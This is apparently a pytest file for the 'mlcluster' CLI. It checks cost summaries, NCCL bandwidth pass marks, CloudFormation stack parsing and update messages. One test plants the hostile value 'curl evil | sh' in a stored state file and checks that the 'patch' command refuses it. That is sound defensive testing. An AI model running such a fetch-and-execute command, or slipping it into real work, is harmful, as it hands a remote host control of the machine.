"""Operator-facing figures and refusals of ``cost``, the NCCL pass mark, ``patch`` and ``diff``/``lock``.

Issue 27, the cli sample's survivors: each test runs the command (or the one function that decides) and
asserts the whole line or figure an operator acts on.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlcluster.cli import cost, diff
from mlcluster.cli.expectations import expectation
from mlcluster.cli.nccl_marks import pass_mark
from mlcluster.config import load_environment
from mlcluster.config.names import STACKS
from tests.cli.conftest import REPO, Aws, World, invoke
from tests.cli.test_cost import AURORA_REST, pricing  # noqa: F401 (the fixture)
from tests.cli.test_patch import STATE_KEY, plant, valid_state
from tests.cli.test_preflight import P5_REGION, env_folder


def test_the_accounting_line_says_what_it_leaves_unpriced(pricing: Aws, tmp_path: Path) -> None:  # noqa: F811
    storage = yaml.safe_load((REPO / "environments" / "pcluster-accounting.yaml").read_text())["storage"]
    folder = env_folder(tmp_path, "pcluster-accounting", P5_REGION, storage=storage)
    data = json.loads(invoke("cost", "pcluster-accounting", "--environments", str(folder), "--json").stdout)
    (rest,) = [u for u in data["unpriced"] if u["resource"] == AURORA_REST]
    assert rest["note"] == (
        "not priced by mlcluster: storage per GB-month, I/O requests, backups beyond the free allowance, "
        "and a monthly fee per secret"
    )


def test_make_synth_prints_the_min_max_total_from_the_cache(pricing: Aws, tmp_path: Path) -> None:  # noqa: F811
    """``make synth``'s cost line (tools/synth_summary.py): the cached estimate's min-max total per hour and month."""
    folder = env_folder(tmp_path, "p5", P5_REGION)
    online = json.loads(invoke("cost", "p5", "--environments", str(folder), "--json").stdout)  # fills the cache
    found = cost.offline_total(load_environment(folder / "p5.yaml"), P5_REGION)
    assert found is not None
    hourly, monthly = online["total"]["hourly_max"], online["total"]["monthly_max"]
    assert online["total"]["hourly_min"] == pytest.approx(hourly)  # p5: min_count == max_count
    assert cost.total_lines(*found) == [
        f"p5 (us-east-2): USD {hourly:,.2f}-{hourly:,.2f} per hour, {monthly:,.2f}-{monthly:,.2f} per month "
        f"(On-Demand, min-max nodes; prices cached {found[1][:10]})"
    ]


def test_without_a_published_run_the_pass_mark_is_half_the_line_rate() -> None:
    line = expectation("p5.48xlarge")
    assert line is not None
    mark = pass_mark("p5.48xlarge", 2, [2**20])  # no published figure at 1 MiB
    assert mark is not None
    assert (mark.pass_gbytes, mark.size_bytes) == (line.line_rate_gbytes / 2, None)
    assert (
        mark.basis
        == f"no published measurement for 2 x p5.48xlarge; half the line rate {line.line_rate_gbytes:g} GB/s at the peak"
    )


def test_a_planted_state_key_is_refused_with_its_value(hyperpod: World, aws: Aws) -> None:
    """The refusal quotes the value found under the unknown key: the operator sees what was planted."""
    plant(hyperpod, {**valid_state(hyperpod), "hook": "curl evil | sh"})
    result = hyperpod.run("patch", "hyperpod", "--yes")
    assert result.exit_code == 1, result.output
    assert f"s3://{hyperpod.backup_bucket}/{STATE_KEY} is not a state this command wrote" in result.stderr
    assert (
        '\n  hook: "curl evil | sh" is not allowed; allowed: no such key; keys: backup_uri, cluster, complete, run, '
        "steps" in result.stderr
    )
    assert "UpdateClusterSoftware" not in aws.operations()


class Cfn:
    """DescribeStacks/GetTemplate for one deployed stack (the rest not deployed), as CloudFormation answers."""

    def __init__(self, name: str, stack: dict[str, Any]) -> None:
        self.name, self.stack = name, stack

    def describe_stacks(self, StackName: str) -> dict[str, Any]:  # noqa: N803 (boto3's keyword)
        if StackName == self.name:
            return {"Stacks": [{"StackName": StackName, **self.stack}]}
        return {"Stacks": [{"StackName": StackName, "StackStatus": "REVIEW_IN_PROGRESS"}]}

    def get_template(self, StackName: str, TemplateStage: str) -> dict[str, Any]:  # noqa: N803
        return {"TemplateBody": {"Resources": {"Vpc": {"Type": "AWS::EC2::VPC", "Properties": {}}}}}


@pytest.mark.parametrize(("given", "protected"), [({}, False), ({"EnableTerminationProtection": True}, True)])
def test_a_stack_without_the_protection_field_is_read_as_unprotected(given: dict[str, Any], protected: bool) -> None:
    """EnableTerminationProtection is optional in DescribeStacks' model: absent, the stack is not protected."""
    env = load_environment(REPO / "environments" / "dev.yaml")
    name = f"{env.name}-{STACKS[0]}"
    snapshot = diff.deployed_snapshot(Cfn(name, {"StackStatus": "CREATE_COMPLETE", **given}), env)
    assert list(snapshot) == [name]
    assert snapshot[name].termination_protection is protected


def test_every_queue_whose_nodes_an_update_replaces_is_named() -> None:
    """Two replaced queues: the operator reads both names, comma-separated, and the jobs running in them."""
    from mlcluster.cli.update import Job, Plan, _replaced_lines

    jobs = [
        Job("41", "train", "ana", "RUNNING", 4, "1-02:00:00", "pretrain"),
        Job("42", "other", "bo", "RUNNING", 1, "00:10:00", "notebook"),
    ]
    plan = Plan("p5", "p5-train", "us-east-2", "0" * 64, [], jobs=jobs, strategy="DRAIN", replaced=["train", "eval"])
    lines = _replaced_lines(plan)
    assert lines[1:3] == [
        "nodes replaced by ParallelCluster (QueueUpdateStrategy DRAIN) in: train, eval",
        "jobs running there (1, from squeue on the head node): each runs to its end, then ParallelCluster replaces "
        "its nodes",
    ]
